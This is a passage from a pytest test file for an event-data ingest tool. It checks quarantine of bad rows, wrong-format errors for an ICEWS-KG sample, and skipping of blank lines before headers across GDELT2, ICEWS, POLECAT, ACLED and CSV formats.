    """Nothing reads it better, so it is bad data, not a wrong format: stored rows kept, the rest quarantined."""
    rows = [Row(i, "unknown_code" if i else "ok", f"h{i}") for i in range(12)]
    raw, _, _ = build_file("gdelt2", rows, truncate=None)
    path = tmp_path / "mostly-bad.export.CSV"
    path.write_bytes(raw)
    t = ingest([path], Store(tmp_path / "store"), format="gdelt2").total
    assert (t.read, t.stored, t.quarantined) == (12, 1, 11)


@pytest.mark.parametrize("given", ["gdelt2", "icews"])
def test_the_real_icews_kg_sample_under_a_wrong_format_exits_2(given: str, shared_data: Path, tmp_path: Path) -> None:
    path = shared_data / "icews" / "icews05-15_sample_a.tsv"
    proc = run(["ingest", str(path), "--format", given, "--store", str(tmp_path / "store"), "--json"], cwd=tmp_path)
    assert proc.returncode == 2, proc.stderr[-2000:]
    out = json.loads(proc.stdout)
    assert out["committed"] is False and "--format icews-kg" in out["error"] and path.name in out["error"]
    assert Store(tmp_path / "store").summary()["events"] == 0


@pytest.mark.parametrize("fmt", ["icews", "polecat", "acled", "csv"])
def test_blank_lines_before_a_header_are_skipped(fmt: str, tmp_path: Path) -> None:
    raw, lines = _ok_file(fmt, n=3)
    path = tmp_path / f"late-header.{EXT[fmt]}"
    path.write_bytes(b"\n\r\n\n" + raw)
    store = Store(tmp_path / "store")
    t = ingest([path], store, format=fmt).total
    assert (t.read, t.stored, t.quarantined) == (3, 3, 0)
    assert sorted(store.read()["source_line"].astype(int)) == [x + 3 for x in lines]
